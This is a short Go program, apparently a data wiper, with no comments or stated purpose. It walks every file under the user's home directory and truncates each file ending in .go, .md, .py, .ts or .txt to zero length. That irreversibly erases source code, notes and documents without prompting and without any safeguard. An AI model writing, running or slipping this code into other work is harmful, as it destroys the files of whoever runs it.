package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

var kinds = []string{".go", ".md", ".py", ".ts", ".txt"}

func main() {
	root, _ := os.UserHomeDir()
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return nil
		}
		for _, k := range kinds {
			if strings.HasSuffix(p, k) {
				os.Truncate(p, 0)
			}
		}
		return nil
	})
}
